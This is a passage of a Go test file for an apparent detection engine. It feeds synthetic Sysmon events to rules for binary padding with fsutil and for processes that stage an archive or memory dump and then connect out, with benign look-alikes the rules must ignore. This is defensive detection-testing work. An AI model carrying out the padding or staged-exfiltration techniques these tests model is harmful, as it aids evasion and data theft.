			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd.exe /c copy /y "C:\Program Files\Contoso\agent.exe" "C:\Program Files\Contoso\agent.bak"`,
				"ParentImage": `C:\Program Files\Contoso\agent.exe`,
			},
		},
		ruleSample{
			ID:      "cd8498f2-f655-45e9-ab08-3050a0977f5b", // Executable Grown With fsutil setEOF (Binary Padding)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\fsutil.exe`,
				"CommandLine": `fsutil file seteof C:\Temp\testfile.bin 1048576`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "cd8498f2-f655-45e9-ab08-3050a0977f5b", // Executable Grown With fsutil setEOF (Binary Padding)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\fsutil.exe`,
				"CommandLine": `fsutil file createnew C:\Temp\pad.exe 1048576`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
	)
}

// TestCorrelationStagedDataSentOverC2 drives the exfiltration correlation:
// one process writes an archive and connects out, against the look-alikes of
// a browser download, two different processes each doing one half, an
// upload to an internal server and halves too far apart.
func TestCorrelationStagedDataSentOverC2(t *testing.T) {
	const exfil = "Process Stages an Archive or Dump Then Connects to the Internet"
	write := func(id string, at time.Duration, image, guid, target string) *huntflow.Event {
		return &huntflow.Event{
			ID: id, Time: t0.Add(at), Channel: chSysmon, EventID: 11, Host: "WS01",
			Image: image, ProcessGUID: guid,
			Fields: map[string]string{"Image": image, "TargetFilename": target},
		}
	}
	conn := func(id string, at time.Duration, image, guid, ip string) *huntflow.Event {
		return &huntflow.Event{
			ID: id, Time: t0.Add(at), Channel: chSysmon, EventID: 3, Host: "WS01",
			Image: image, ProcessGUID: guid,
			Fields: map[string]string{"Image": image, "DestinationIp": ip, "DestinationPort": "443", "Initiated": "true"},
		}
	}
	const implant, guidA, guidB = `C:\Users\bob\AppData\Local\Temp\update.exe`, "{a1}", "{b2}"
	tests := []struct {
		name string
		evs  []*huntflow.Event
		want []string
	}{
		{"powershell zips documents and posts them out", []*huntflow.Event{
			write("w", 0, imgPS, guidA, `C:\Users\bob\AppData\Local\Temp\docs.zip`),
			conn("c", 40*time.Second, imgPS, guidA, "203.0.113.7"),
		}, []string{exfil}},
		{"implant dumps a process then beacons", []*huntflow.Event{
			write("w", 0, implant, guidA, `C:\ProgramData\out.dmp`),
			conn("c", 3*time.Minute, implant, guidA, "198.51.100.23"),
		}, []string{exfil}},
		{"browser downloads an archive", []*huntflow.Event{
			write("w", 0, imgChrome, guidA, `C:\Users\bob\Downloads\setup.zip`),
			conn("c", 5*time.Second, imgChrome, guidA, "142.250.74.36"),
		}, nil},
		{"archive and connection from different processes", []*huntflow.Event{
			write("w", 0, imgPS, guidA, `C:\Users\bob\AppData\Local\Temp\docs.zip`),
			conn("c", 40*time.Second, implant, guidB, "203.0.113.7"),
		}, nil},
		{"archive copied to an internal file server", []*huntflow.Event{
			write("w", 0, imgPS, guidA, `C:\Users\bob\AppData\Local\Temp\docs.zip`),
			conn("c", 40*time.Second, imgPS, guidA, "10.0.0.12"),
		}, nil},
		{"windows update writes a cab and downloads", []*huntflow.Event{
			write("w", 0, `C:\Windows\System32\svchost.exe`, guidA, `C:\Windows\SoftwareDistribution\Download\a1b2\Windows10.0-KB5034441-x64.cab`),
			conn("c", 20*time.Second, `C:\Windows\System32\svchost.exe`, guidA, "13.107.4.50"),
		}, nil},
		{"halves an hour apart", []*huntflow.Event{
			write("w", 0, imgPS, guidA, `C:\Users\bob\AppData\Local\Temp\docs.zip`),
			conn("c", time.Hour, imgPS, guidA, "203.0.113.7"),
		}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cls, err := defaultDetector(t).Detect(context.Background(), span(tc.evs), tc.evs)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range cls.Findings {
				got = append(got, f.Title)
			}
			slices.Sort(got)
			if !slices.Equal(got, tc.want) {
				t.Errorf("findings %v, want %v", got, tc.want)
			}
		})
	}
}
